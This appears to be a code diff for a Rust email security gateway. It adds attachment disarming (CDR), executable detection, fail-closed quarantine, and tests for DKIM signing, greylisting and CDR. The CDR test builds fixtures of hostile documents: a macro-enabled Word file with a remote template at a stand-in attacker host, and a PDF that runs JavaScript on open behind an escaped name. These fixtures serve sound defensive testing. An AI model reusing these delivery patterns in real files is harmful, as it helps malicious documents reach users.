@@ -28,7 +28,12 @@
 //! │         ▼                                                            │
 //! │ ┌────────────────┐                                                  │
 //! │ │ Attachment     │ Type detection, macro analysis                   │
-//! │ │ Scanning       │ Malware sandbox, CDR sanitization                │
+//! │ │ Scanning       │ Malware sandbox                                  │
+//! │ └───────┬────────┘                                                  │
+//! │         ▼                                                            │
+//! │ ┌────────────────┐                                                  │
+//! │ │ CDR            │ Macro/PDF action removal, image re-encoding      │
+//! │ │                │ Originals retained in quarantine                 │
 //! │ └───────┬────────┘                                                  │
 //! │         ▼                                                            │
 //! │ ┌────────────────┐                                                  │
@@ -54,6 +59,7 @@
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
 use std::net::IpAddr;
+use std::sync::Arc;
 
 pub mod parser;
 pub mod mta;
@@ -73,6 +79,7 @@ pub mod auth;
 pub mod blocklists;
 pub mod sandbox_advanced;
 pub mod pipeline;
+pub mod cdr;
 
 // =============================================================================
 // Core Types
@@ -166,6 +173,35 @@ pub struct Attachment {
     pub is_executable: bool,
     pub is_archive: bool,
     pub nested_files: Vec<NestedFile>,
+    /// Decoded content, kept in memory only
+    #[serde(skip)]
+    pub content: Vec<u8>,
+}
+
+impl Attachment {
+    pub fn from_content(filename: &str, content_type: &str, content: Vec<u8>) -> Self {
+        use sha2::Digest;
+        
+        let ext = cdr::extension(filename);
+        let is_executable = content.starts_with(b"MZ")
+            || content.starts_with(b"\x7fELF")
+            || ["exe", "dll", "scr", "com", "msi", "bat", "cmd", "ps1", "vbs", "js", "jar", "hta", "lnk"]
+                .contains(&ext.as_str());
+        let is_archive = ["zip", "rar", "7z", "gz", "tgz", "tar", "cab", "iso"].contains(&ext.as_str())
+            || content.starts_with(b"Rar!\x1a\x07")
+            || content.starts_with(&[0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C]);
+
+        Self {
+            filename: filename.to_string(),
+            content_type: content_type.to_string(),
+            size_bytes: content.len(),
+            hash_sha256: format!("{:x}", sha2::Sha256::digest(&content)),
+            is_executable,
+            is_archive,
+            nested_files: Vec::new(),
+            content,
+        }
+    }
 }
 
 #[derive(Debug, Clone, Serialize, Deserialize)]
@@ -304,6 +340,8 @@ pub struct EmailSecurityGateway {
     sandbox: sandbox::MalwareSandbox,
     bec_detector: bec::BecDetector,
     dlp_engine: dlp::DlpEngine,
+    cdr: Option<Arc<cdr::CdrEngine>>,
+    quarantine: Option<Arc<quarantine::QuarantineManager>>,
     stats: GatewayStats,
 }
 
@@ -353,6 +391,16 @@ pub struct GatewayStats {
     pub malware_detected: std::sync::atomic::AtomicU64,
     pub bec_detected: std::sync::atomic::AtomicU64,
     pub dlp_violations: std::sync::atomic::AtomicU64,
+    pub attachments_disarmed: std::sync::atomic::AtomicU64,
+}
+
+/// Verdict plus the message to deliver
+#[derive(Debug, Clone)]
+pub struct ProcessedMessage {
+    pub verdict: EmailVerdict,
+    /// Message rebuilt by CDR; `None` means deliver the original
+    pub delivered: Option<Vec<u8>>,
+    pub cdr: Vec<cdr::CdrReport>,
 }
 
 impl EmailSecurityGateway {
@@ -366,10 +414,24 @@ impl EmailSecurityGateway {
             sandbox: sandbox::MalwareSandbox::new(),
             bec_detector: bec::BecDetector::new(),
             dlp_engine: dlp::DlpEngine::new(),
+            cdr: None,
+            quarantine: None,
             stats: GatewayStats::default(),
         }
     }
     
+    /// Rebuild attachments of delivered messages
+    pub fn with_cdr(mut self, engine: Arc<cdr::CdrEngine>) -> Self {
+        self.cdr = Some(engine);
+        self
+    }
+    
+    /// Where originals of rebuilt messages are kept
+    pub fn with_quarantine(mut self, quarantine: Arc<quarantine::QuarantineManager>) -> Self {
+        self.quarantine = Some(quarantine);
+        self
+    }
+    
     /// Process an email message through all security checks
     pub async fn process(&self, message: &EmailMessage) -> EmailVerdict {
         use std::sync::atomic::Ordering;
@@ -495,6 +557,85 @@ impl EmailSecurityGateway {
         verdict
     }
     
+    /// Process a message and rebuild the attachments of one that is to be
+    /// delivered. The sanitised message goes out as `DeliverModified` and
+    /// the original is retained in quarantine; if CDR fails the message is
+    /// held rather than delivered unsanitised.
+    pub async fn process_raw(&self, raw: &[u8], message: &EmailMessage) -> ProcessedMessage {
+        use std::sync::atomic::Ordering;
+        
+        let start = std::time::Instant::now();
+        let mut verdict = self.process(message).await;
+        
+        let engine = match &self.cdr {
+            Some(engine) if engine.config().enabled => engine.clone(),
+            _ => return ProcessedMessage { verdict, delivered: None, cdr: Vec::new() },
+        };
+        if !matches!(verdict.action, VerdictAction::Deliver | VerdictAction::DeliverModified) {
+            return ProcessedMessage { verdict, delivered: None, cdr: Vec::new() };
+        }
+        
+        let input = raw.to_vec();
+        let result = tokio::task::spawn_blocking(move || engine.sanitize_message(&input))
+            .await
+            .map_err(|e| e.to_string())
+            .and_then(|r| r.map_err(|e| e.to_string()));
+        
+        // Fail closed: a message that could not be rebuilt is held
+        let hold = |verdict: &mut EmailVerdict, description: String| {
+            self.stats.messages_delivered.fetch_sub(1, Ordering::Relaxed);
+            self.stats.messages_quarantined.fetch_add(1, Ordering::Relaxed);
+            verdict.action = VerdictAction::Quarantine;
+            verdict.categories.push(ThreatCategory::SuspiciousAttachment);
+            verdict.reasons.push(VerdictReason {
+                category: ThreatCategory::SuspiciousAttachment,
+                description,
+                confidence: 1.0,
+                source: "cdr".to_string(),
+            });
+        };
+        
+        let mut delivered = None;
+        let mut reports = Vec::new();
+        match result {
+            Ok(outcome) if outcome.quarantine => {
+                let failed: Vec<&str> = outcome.reports.iter()
+                    .filter(|r| r.disposition == cdr::Disposition::Failed)
+                    .map(|r| r.filename.as_str())
+                    .collect();
+                hold(&mut verdict, format!("Attachments could not be rebuilt: {}", failed.join(", ")));
+                reports = outcome.reports;
+            }
+            Ok(outcome) if outcome.modified => {
+                let rebuilt = outcome.reports.iter().filter(|r| r.sanitized_size.is_some()).count();
+                self.stats.attachments_disarmed.fetch_add(rebuilt as u64, Ordering::Relaxed);
+                verdict.action = VerdictAction::DeliverModified;
+                verdict.reasons.push(VerdictReason {
+                    category: ThreatCategory::SuspiciousAttachment,
+                    description: format!("{} attachment(s) rebuilt without active content", rebuilt),
+                    confidence: 1.0,
+                    source: "cdr".to_string(),
+                });
+                delivered = Some(outcome.raw);
+                reports = outcome.reports;
+            }
+            Ok(outcome) => reports = outcome.reports,
+            Err(e) => {
+                tracing::error!("CDR failed for message {}: {}", message.id, e);
+                hold(&mut verdict, format!("Attachment rebuild failed: {}", e));
+            }
+        }
+        
+        verdict.processing_time_ms = start.elapsed().as_millis() as u64;
+        if delivered.is_some() || verdict.action == VerdictAction::Quarantine {
+            if let Some(quarantine) = &self.quarantine {
+                quarantine.retain_original(message.clone(), verdict.clone(), raw.to_vec(), reports.clone());
+            }
+        }
+        
+        ProcessedMessage { verdict, delivered, cdr: reports }
+    }
+    
     fn determine_action(&self, verdict: &EmailVerdict) -> VerdictAction {
         // Malware always rejects
         if verdict.malware_score >= 5.0 {
@@ -548,6 +689,7 @@ impl EmailSecurityGateway {
             malware_detected: self.stats.malware_detected.load(Ordering::Relaxed),
             bec_detected: self.stats.bec_detected.load(Ordering::Relaxed),
             dlp_violations: self.stats.dlp_violations.load(Ordering::Relaxed),
+            attachments_disarmed: self.stats.attachments_disarmed.load(Ordering::Relaxed),
         }
     }
 }
@@ -563,6 +705,7 @@ pub struct GatewayStatsSnapshot {
     pub malware_detected: u64,
     pub bec_detected: u64,
     pub dlp_violations: u64,
+    pub attachments_disarmed: u64,
 }
 
 // =============================================================================
@@ -594,4 +737,155 @@ mod tests {
         
         assert_eq!(gateway.determine_action(&verdict), VerdictAction::Quarantine);
     }
+    
+    #[test]
+    fn test_dkim_ed25519_signature_verifies() {
+        use base64::Engine as _;
+        use ring::signature::{Ed25519KeyPair, KeyPair, UnparsedPublicKey, ED25519};
+        use sha2::{Digest, Sha256};
+        
+        let b64 = base64::engine::general_purpose::STANDARD;
+        let rng = ring::rand::SystemRandom::new();
+        let pkcs8 = Ed25519KeyPair::generate_pkcs8(&rng).unwrap();
+        let public = Ed25519KeyPair::from_pkcs8(pkcs8.as_ref()).unwrap().public_key().as_ref().to_vec();
+        
+        let signer = outbound::DkimSigner::new().with_options(outbound::SigningOptions {
+            expiry: None,
+            ..Default::default()
+        });
+        signer.add_key("Example.com", "s1", outbound::DkimPrivateKey::from_pkcs8_der(pkcs8.as_ref()).unwrap());
+        
+        let raw = b"From: Alice <alice@example.com>\nTo: bob@example.org\nSubject:  Hello\n   world\n\nHi  Bob \n\n\n";
+        let header = signer.sign(raw).unwrap();
+        
+        let body_hash = b64.encode(Sha256::digest(b"Hi Bob\r\n"));
+        assert!(header.starts_with("DKIM-Signature: v=1; a=ed25519-sha256; c=relaxed/relaxed; d=example.com; s=s1;"));
+        assert!(header.contains("h=from:from:reply-to:subject:subject:to;"));
+        assert!(header.contains(&format!("bh={};", body_hash)));
+        
+        // Signing input: relaxed signed headers, then the signature header
+        // with an empty b= and no trailing CRLF
+        let b_tag = header.find("\tb=").unwrap() + 3;
+        let unsigned = header[..b_tag].replace("\r\n\t", " ");
+        let mut input = b"from:Alice <alice@example.com>\r\nsubject:Hello world\r\nto:bob@example.org\r\n".to_vec();
+        input.extend_from_slice(unsigned.replacen("DKIM-Signature: ", "dkim-signature:", 1).as_bytes());
+        
+        let signature: String = header[b_tag..].chars().filter(|c| !c.is_whitespace()).collect();
+        UnparsedPublicKey::new(&ED25519, public)
+            .verify(&Sha256::digest(&input), &b64.decode(signature).unwrap())
+            .unwrap();
+    }
+    
+    #[test]
+    fn test_greylist_retry_and_auto_whitelist() {
+        use smtp::{Greylist, GreylistConfig, GreylistDecision, PassReason};
+        
+        let greylist = Greylist::new(GreylistConfig {
+            auto_whitelist_after: 2,
+            ..Default::default()
+        });
+        let t0 = chrono::Utc::now();
+        let client: IpAddr = "192.0.2.10".parse().unwrap();
+        let neighbour: IpAddr = "192.0.2.77".parse().unwrap();
+        
+        // First attempt and an early retry are deferred
+        assert!(matches!(greylist.check_at(client, "a@example.com", "x@corp.test", t0), GreylistDecision::Defer { .. }));
+        assert!(matches!(
+            greylist.check_at(client, "a@example.com", "x@corp.test", t0 + chrono::Duration::minutes(1)),
+            GreylistDecision::Defer { .. }
+        ));
+        
+        // A retry after the delay passes, from anywhere in the /24
+        let t1 = t0 + chrono::Duration::minutes(6);
+        assert_eq!(greylist.check_at(neighbour, "A@example.com", "x@corp.test", t1), GreylistDecision::Pass(PassReason::Retried));
+        assert_eq!(greylist.check_at(client, "a@example.com", "x@corp.test", t1), GreylistDecision::Pass(PassReason::Known));
+        
+        // A second passed triplet whitelists the network
+        greylist.check_at(client, "b@example.com", "y@corp.test", t1);
+        let t2 = t1 + chrono::Duration::minutes(10);
+        assert_eq!(greylist.check_at(client, "b@example.com", "y@corp.test", t2), GreylistDecision::Pass(PassReason::Retried));
+        assert_eq!(greylist.check_at(client, "new@example.com", "z@corp.test", t2), GreylistDecision::Pass(PassReason::AutoWhitelisted));
+    }
+    
+    #[test]
+    fn test_cdr_strips_macros_and_pdf_javascript() {
+        use base64::Engine as _;
+        use std::io::{Read, Write};
+        
+        let engine = cdr::CdrEngine::default();
+        let contains = |haystack: &[u8], needle: &[u8]| haystack.windows(needle.len()).any(|w| w == needle);
+        
+        // Macro-enabled Word document with a remote template
+        let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        for (name, content) in [
+            ("[Content_Types].xml", r#"<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#),
+            ("_rels/.rels", r#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#),
+            ("word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>"),
+            ("word/_rels/document.xml.rels", r#"<Relationships><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>"#),
+            ("word/vbaProject.bin", "Attribute VB_Name = \"ThisDocument\""),
+        ] {
+            writer.start_file(name, zip::write::FileOptions::default()).unwrap();
+            writer.write_all(content.as_bytes()).unwrap();
+        }
+        let docm = writer.finish().unwrap().into_inner();
+        
+        let file = engine.sanitize_file("report.docm", "application/vnd.ms-word.document.macroEnabled.12", &docm).unwrap();
+        assert_eq!(file.kind, cdr::FileKind::Ooxml);
+        assert_eq!(file.disposition, cdr::Disposition::Disarmed);
+        assert_eq!(file.filename, "report.docx");
+        assert!(file.removed.iter().any(|r| r.kind == cdr::ContentKind::Macro));
+        assert!(file.removed.iter().any(|r| r.kind == cdr::ContentKind::ExternalLink));
+        
+        let mut rebuilt = zip::ZipArchive::new(std::io::Cursor::new(file.data)).unwrap();
+        assert!(rebuilt.by_name("word/vbaProject.bin").is_err());
+        let mut part = |name: &str| {
+            let mut text = String::new();
+            rebuilt.by_name(name).unwrap().read_to_string(&mut text).unwrap();
+            text
+        };
+        let content_types = part("[Content_Types].xml");
+        assert!(!content_types.contains("vbaProject") && !content_types.contains("macroEnabled"));
+        let rels = part("word/_rels/document.xml.rels");
+        assert!(!rels.contains("vbaProject.bin") && !rels.contains("attacker.example"));
+        
+        // PDF running JavaScript on open, one name hidden with a #xx escape
+        let pdf = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n\
+            2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n\
+            3 0 obj\n<< /S /JavaScript /J#53 (app.alert(1)) >>\nendobj\n\
+            trailer\n<< /Root 1 0 R /Size 4 >>\n%%EOF\n";
+        let file = engine.sanitize_file("invoice.pdf", "application/pdf", pdf).unwrap();
+        assert_eq!(file.disposition, cdr::Disposition::Disarmed);
+        assert!(contains(&file.data, b"/CDROpenAction 3 0 R"));
+        assert!(contains(&file.data, b"/S /CDRJavaScript /CDRJS (app.alert(1))"));
+        assert!(!contains(&file.data, b"/OpenAction") && !contains(&file.data, b"#53"));
+        assert!(contains(&file.data, b"trailer\n<< /Size 4 /Root 1 0 R >>"));
+        
+        // The same document attached to a message comes back rebuilt
+        let encoded = base64::engine::general_purpose::STANDARD.encode(&docm);
+        let raw = format!(
+            "From: a@example.com\r\nTo: b@corp.test\r\nSubject: Report\r\nMIME-Version: 1.0\r\n\
+             Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n\
+             --b1\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n\
+             --b1\r\nContent-Type: application/vnd.ms-word.document.macroEnabled.12; name=\"report.docm\"\r\n\
+             Content-Disposition: attachment; filename=\"report.docm\"\r\nContent-Transfer-Encoding: base64\r\n\r\n\
+             {}\r\n--b1--\r\n",
+            encoded
+        );
+        let outcome = engine.sanitize_message(raw.as_bytes()).unwrap();
+        assert!(outcome.modified && !outcome.quarantine);
+        assert_eq!(outcome.reports[0].delivered_filename.as_deref(), Some("report.docx"));
+        
+        let delivered = parser::EmailParser::new().parse(&outcome.raw, EmailEnvelope {
+            mail_from: "a@example.com".to_string(),
+            rcpt_to: vec!["b@corp.test".to_string()],
+            client_ip: "192.0.2.1".parse().unwrap(),
+            client_hostname: None,
+            helo: "mx.example.com".to_string(),
+            authenticated_user: None,
+            tls_version: None,
+        }).unwrap();
+        assert_eq!(delivered.attachments.len(), 1);
+        assert_eq!(delivered.attachments[0].filename, "report.docx");
+        assert!(!contains(&delivered.attachments[0].content, b"vbaProject.bin"));
+    }
 }